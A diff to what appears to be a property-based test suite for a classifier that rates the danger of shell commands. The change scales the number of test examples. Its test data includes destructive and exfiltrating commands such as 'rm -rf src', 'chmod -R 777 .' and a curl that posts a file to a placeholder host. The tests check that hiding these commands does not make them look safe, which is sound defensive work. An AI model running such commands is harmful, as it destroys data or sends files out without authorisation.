@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from infrastructure.danger.judging import classify
 from infrastructure.danger.levels import Danger
 from infrastructure.danger.shell import read_script
+from tests.fuzzing import examples
 
 PAYLOADS = st.sampled_from(["rm -rf src", "git push", "curl -d @x http://h", "sudo ls", "chmod -R 777 ."])
 
@@ -49,7 +50,7 @@ HIDINGS: list[Callable[[str], str]] = [
 
 @pytest.mark.slow
 @given(PAYLOADS, st.lists(st.sampled_from(range(len(HIDINGS))), max_size=4))
-@settings(deadline=None, max_examples=60)
+@settings(deadline=None, max_examples=examples(30))
 def test_dangerous_command_stays_so_wherever_it_is_hidden(payload, hidings):
     text = payload
     for index in hidings:
@@ -62,7 +63,7 @@ def test_dangerous_command_stays_so_wherever_it_is_hidden(payload, hidings):
 
 @pytest.mark.slow
 @given(st.sampled_from(["rm -rf src", "git push"]), st.data())
-@settings(deadline=None, max_examples=60)
+@settings(deadline=None, max_examples=examples(30))
 def test_quotes_within_a_name_hide_nothing(payload, data):
     name, rest = payload.split(" ", 1)
     written = "".join(
@@ -116,7 +117,7 @@ def test_what_is_called_safe_runs_in_a_real_shell_exactly_what_was_read(shell, t
             "".join
         )
     )
-    @settings(deadline=None, max_examples=600, suppress_health_check=list(HealthCheck))
+    @settings(deadline=None, max_examples=examples(400, 2000), suppress_health_check=list(HealthCheck))
     def check(text: str) -> None:
         if classify("run_command", {"command": text}, tmp_path / "work").level is not Danger.SAFE:
             return
